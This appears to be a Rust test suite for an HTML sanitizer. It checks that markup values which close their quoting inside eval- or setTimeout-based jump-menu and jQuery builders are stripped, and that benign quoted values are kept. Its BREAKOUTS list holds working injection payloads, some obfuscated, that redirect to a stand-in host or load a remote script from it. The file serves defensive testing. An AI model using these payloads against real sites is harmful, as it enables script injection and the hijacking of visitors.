//! Attack suite for markup values that close the string they are built into (issue 14,
//! class 3; threats A4, B1, B3): a jump menu builds `eval(targ + ".location='" + value +
//! "'")` from an `<option value>`; an `onchange` builds `setTimeout("location.href='" +
//! this.value + "'")`; jQuery builds `eval("location='" + $(this).data('href') + "'")`. A
//! value that holds the quote (raw or as a character reference) ends the literal, and the
//! rest of it runs as code: `x';top.location='/'+'/bet.example/';'`. The value is
//! same-site as a URL, so the URL check lets it be. Each breakout (split, decoded, a
//! loader) meets each builder and each quoting, on a news page and an error page. The
//! benign twins (option values with an apostrophe in a query, JSON options in `data-*`,
//! titles with quotes) keep their bytes with no event.

use crate::common;

use common::rewrite::{clean, clean_turn, site};

/// Builders: (the script, the element around `@V`, the quote the value lands in).
const BUILDERS: &[(&str, &str, char)] = &[
    (
        "function MM_jumpMenu(targ,selObj,restore){ eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\"); if (restore) selObj.selectedIndex=0; }",
        "<select onchange=\"MM_jumpMenu('parent',this,0)\"><option value=\"/\">Chọn</option><option value=\"@V\">Sở Y tế</option></select>",
        '\'',
    ),
    (
        "function MM_jumpMenu(targ, selObj, restore) { eval(targ + '.location=\"' + selObj.options[selObj.selectedIndex].value + '\"'); }",
        "<select onchange=\"MM_jumpMenu('self',this,0)\"><option value='@V'>Sở Y tế</option></select>",
        '"',
    ),
    (
        "",
        "<select onchange=\"setTimeout(&quot;location.href='&quot;+this.value+&quot;'&quot;,10)\"><option value=\"@V\">Sở Y tế</option></select>",
        '\'',
    ),
    (
        "$(function(){ $('a.lk').click(function(){ eval(\"location='\"+$(this).data('href')+\"'\"); return false; }); });",
        "<a class=\"lk\" href=\"#\" data-href=\"@V\">Liên kết</a>",
        '\'',
    ),
];

/// What follows the closing quote: statements that leave the site.
const BREAKOUTS: &[&str] = &[
    "top.location='/'+'/bet.example/'",
    "location.replace(atob('Ly9iZXQuZXhhbXBsZS8='))",
    "window['loc'+'ation']='//bet'+'.example/'",
    "var s=document.createElement('script');s.src='/'+'/bet.example/x.js';document.head.appendChild(s)",
];

/// The value: a same-site path, the quote, the breakout, a quote to close the tail.
fn value(breakout: &str, q: char, by_reference: bool) -> String {
    let code = match q {
        '\'' => breakout.to_string(),
        _ => breakout.replace('\'', "\""),
    };
    let v = format!("/gioi-thieu{q};{code};{q}");
    let v = v.replace('&', "&amp;");
    let v = match (q, by_reference) {
        ('\'', true) => v.replace('\'', "&#39;"),
        ('"', _) => v.replace('"', "&quot;"),
        _ => v,
    };
    match q {
        '\'' if !by_reference => v.replace('"', "&quot;"),
        _ => v,
    }
}

const FRAMES: &[&str] = &[
    "<p>Tin</p>@P<p>Hết</p>",
    "<h1>404</h1><p>Không tìm thấy</p>@P",
];

#[test]
fn values_that_close_their_quote_are_removed() {
    let mut missed = Vec::new();
    let mut total = 0;
    for (b, (script, markup, q)) in BUILDERS.iter().enumerate() {
        for (k, breakout) in BREAKOUTS.iter().enumerate() {
            for by_ref in [false, true] {
                let v = value(breakout, *q, by_ref);
                let script = match script.is_empty() {
                    true => String::new(),
                    false => format!("<script>{script}</script>"),
                };
                let el = markup.replace("@V", &v);
                let frame = FRAMES[(b + k) % 2];
                let page = frame.replace("@P", &format!("{script}{el}"));
                total += 1;
                let (out, events) = clean_turn(&site(""), &page, total);
                let kept = out.contains(&v) && (script.is_empty() || out.contains(&script));
                let handler_kept = markup.contains("onchange") && out.contains("onchange");
                let defused = !kept || (script.is_empty() && !handler_kept);
                // The script rule, or the URL rule of a `data-*` value that names a host.
                let audited = events
                    .iter()
                    .any(|e| e.rule.starts_with("script.") || e.rule == "data.foreign");
                if !defused || !audited {
                    missed.push(page);
                }
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{} of {total} left in place:\n{}",
        missed.len(),
        missed[..missed.len().min(10)].join("\n")
    );
}

#[test]
fn values_with_quotes_that_stay_data_keep_their_bytes() {
    let s = site("");
    let jump = "<script>function MM_jumpMenu(targ,selObj,restore){ eval(targ+\".location='\"+selObj.options[selObj.selectedIndex].value+\"'\"); if (restore) selObj.selectedIndex=0; }</script>";
    for el in [
        "<select onchange=\"MM_jumpMenu('parent',this,0)\"><option value=\"/tim-kiem?q=l'an\">Tìm</option><option value=\"https://chinhphu.vn/\">CP</option></select>",
        "<div class=\"slider\" data-slick='{\"slidesToShow\": 4, \"autoplay\": true, \"prevArrow\": \"<button type=\\\"button\\\">Trước</button>\"}'></div>",
        "<div data-options=\"{&quot;url&quot;:&quot;/api/tin-moi&quot;,&quot;limit&quot;:5}\" data-title=\"Bộ trưởng: &quot;Phải làm ngay&quot;\"></div>",
        "<input type=\"text\" name=\"q\" value=\"Nghị định 'số 15'\"><input type=\"hidden\" value='{\"a\":\"b\"}'>",
        "<a href=\"/van-ban?ten=Lu%E1%BA%ADt%27s\" data-href=\"/tin/o'neil\" title=\"Tin 'nóng'\">Tin</a>",
        "<a href=\"javascript:void(0)\" onclick=\"showTab('tab1')\" data-tab=\"{'id':1}\">Tab</a>",
    ] {
        let page = format!("<p>x</p>{jump}<form>{el}</form>");
        let (out, events) = clean(&s, &page);
        assert_eq!(out, page, "changed: {events:?}");
        assert!(events.is_empty(), "{el}: {events:?}");
    }
}
